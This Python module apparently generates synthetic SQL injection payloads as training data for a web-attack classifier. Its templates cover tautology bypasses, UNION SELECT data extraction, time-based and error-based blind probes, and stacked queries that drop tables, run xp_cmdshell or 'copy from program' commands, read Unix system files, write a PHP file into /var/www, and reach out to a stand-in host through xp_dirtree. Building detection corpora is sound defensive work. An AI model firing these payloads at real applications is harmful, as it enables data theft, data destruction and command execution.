"""SQL injection: payloads that break out of a literal and change what is asked."""

from __future__ import annotations

from classifiers.corpus.web_attack_tables import COLUMNS, COMMANDS, FILES_UNIX, SLEEPS, TABLES, WINDOWS_COMMANDS
from classifiers.corpus.web_draw import Draw, word


def _truth(rng: Draw) -> str:
    n, w = rng.randint(0, 9999), word(rng, 1, 5)
    m = n + rng.randint(1, 9)
    return rng.choice(
        (f"{n}={n}", f"'{w}'='{w}'", f"{n}<{m}", f"{m}>{n}", f"{n} between 0 and {m}", f"'{w}' like '{w}'", f"{n} in ({n})",
         f"'{w}'='{w}", f'"{w}"="{w}', "true", f"not {n}={m}", f"{n}<>{m}", f"{n}!={m}", f"{n} like {n}", f"length('{w}')={len(w)}",
         f"ascii(substring(user(),{rng.randint(1, 9)},1))>{rng.randint(48, 120)}", f"exists(select * from {rng.choice(TABLES)})",
         f"(select count(*) from {rng.choice(TABLES)})>{rng.randint(0, 3)}", f"{n} is not null", f"{rng.choice(COLUMNS)} like '%{w}%'")
    )  # fmt: skip


def _break(rng: Draw) -> str:
    """The end of the literal that the payload stands in."""
    before = rng.choice(("", "", word(rng), str(rng.randint(-99, 9999)), "-1", "1", "admin", "x"))
    return before + rng.choice(("'", "'", '"', "')", '")', "'))", "", ")", "))", " ", "`", "\\'", "%27", "';", '";'))


def _rest(rng: Draw) -> str:
    return rng.choice(
        ("--", "-- ", "-- -", "#", "/*", ";--", "", "", ";%00", "--+", " -- " + word(rng), "#" + word(rng), "'")
    )


def sqli_logic(rng: Draw) -> str:
    joint = rng.choice(
        (
            " or ",
            " OR ",
            " and ",
            " || ",
            "||",
            " && ",
            " xor ",
            " or not ",
            ") or (",
            "'or'",
            "/**/or/**/",
            "\tor\n",
            "+or+",
        )
    )
    return _break(rng) + joint + _truth(rng) + _rest(rng)


def sqli_union(rng: Draw) -> str:
    count = rng.randint(1, 12)
    columns = [
        rng.choice(
            (
                "null",
                str(i + 1),
                "NULL",
                "@@version",
                "user()",
                "database()",
                rng.choice(COLUMNS),
                f"concat({rng.choice(COLUMNS)},0x3a,{rng.choice(COLUMNS)})",
                f"char({rng.randint(40, 120)})",
                f"'{word(rng)}'",
            )
        )
        for i in range(count)
    ]
    table = rng.choice(
        (
            "",
            "",
            f" from {rng.choice(TABLES)}",
            f" from {rng.choice(TABLES)} where {_truth(rng)}",
            " from dual",
            f" from {rng.choice(TABLES)} limit {rng.randint(0, 5)},1",
        )
    )
    union = rng.choice(
        (
            "union select",
            "union all select",
            "UNION SELECT",
            "union distinct select",
            "union/**/select",
            "/*!union*/ /*!select*/",
            "UnIoN SeLeCt",
            "union(select",
            "union%20select",
        )
    )
    closing = ")" if union.endswith("(select") else ""
    return f"{_break(rng)} {union} {','.join(columns)}{table}{closing}{_rest(rng)}"


def sqli_stacked(rng: Draw) -> str:
    table, column, w = rng.choice(TABLES), rng.choice(COLUMNS), word(rng)
    statement = rng.choice(
        (f"drop table {table}", f"delete from {table}", f"insert into {table} values ({rng.randint(1, 99)},'{w}','{w}')",
         f"update {table} set {column}='{w}' where {_truth(rng)}", "shutdown", f"exec xp_cmdshell('{rng.choice(WINDOWS_COMMANDS)}')",
         f"create table {w} (a text)", f"truncate table {table}", f"exec master..xp_dirtree '\\\\{w}.example\\a'",
         f"declare @q varchar(99);set @q='{w}';exec(@q)", f"copy {w} from program '{rng.choice(COMMANDS)}'", f"grant all on {table} to {w}",
         f"select pg_sleep({rng.randint(1, 20)})", f"waitfor delay '0:0:{rng.randint(1, 20)}'", f"select load_file('{rng.choice(FILES_UNIX)}')",
         f"select '{w}' into outfile '/var/www/{w}.php'", f"call {w}()", f"alter table {table} add {w} int")
    )  # fmt: skip
    return f"{_break(rng)};{rng.choice(('', ' '))}{statement}{_rest(rng)}"


def sqli_blind(rng: Draw) -> str:
    sleep = rng.choice(SLEEPS).replace("N", str(rng.randint(1, 20)))
    shape = rng.choice(
        ("{b} and {s}{r}", "{b} or {s}{r}", "{b} and if({t},{s},0){r}", "{b} and (select {n} from (select({s})){w}){r}",
         "{b} or (case when ({t}) then {s} else {n} end){r}", "(select(0)from(select({s}))v)", "{b},({s}){r}", "{b} || {s} || '",
         "{b} and extractvalue({n},concat(0x5c,({q}))){r}", "{b} and updatexml({n},concat(0x7e,({q})),{n}){r}", "{b} order by {n}{r}",
         "{b} group by {c} having {t}{r}", "{b} and ({q})={n}{r}", "{b} procedure analyse(extractvalue({n},concat(0x3a,({q}))),1){r}",
         "{b} and {n}=convert(int,({q})){r}", "{b} and {n}=cast(({q}) as int){r}", "{b} rlike (select (case when ({t}) then 1 else 0x28 end)){r}",
         "{b} and substr(({q}),{n},1)='{w}'{r}", "{b}-{s}-'", "{b}+({q})+'", "{b} limit {n} offset {n}{r}", "{b} and 0x{n}=(ascii(mid(({q}),{n},1))){r}")
    )  # fmt: skip
    query = rng.choice(
        ("select @@version", "select version()", "select user()", f"select {rng.choice(COLUMNS)} from {rng.choice(TABLES)} limit 1",
         "select group_concat(table_name) from information_schema.tables", "select banner from v$version where rownum=1",
         "select top 1 name from sysobjects where xtype='u'", "select sql from sqlite_master", "select current_database()")
    )  # fmt: skip
    values = {
        "b": _break(rng),
        "s": sleep,
        "r": _rest(rng),
        "t": _truth(rng),
        "n": str(rng.randint(1, 9999)),
        "w": word(rng, 1, 4),
        "q": query,
        "c": rng.choice(COLUMNS),
    }
    return shape.format(**values)


def sqli_short(rng: Draw) -> str:
    w, n = word(rng, 1, 6), rng.randint(0, 99)
    return rng.choice(
        (f"{w}'--", f"{w}' #", f"{w}'/*", "' or ''='", "'='", "'-'", f"'+'{w}", f"{n}' or '{n}", f"{w}'||'{w}", f"{n};--", f"') or ('{w}",
         f"{n} or {n}", f"' or {w} is not null or '", "\" or \"\"=\"", f"{n}' having {n}={n}--", f"{n} and {n}={n + 1}", "' and '1'='2", "'&&'1'='1",
         "admin' or 1--", "' or true--", f"{w}') --", f"-{n} or {n}>0", "'^0#", "'|0#", "' or 1 limit 1#", "'<'~", f"{n}-sleep(3)", "'||(select 1)||'")
    )  # fmt: skip
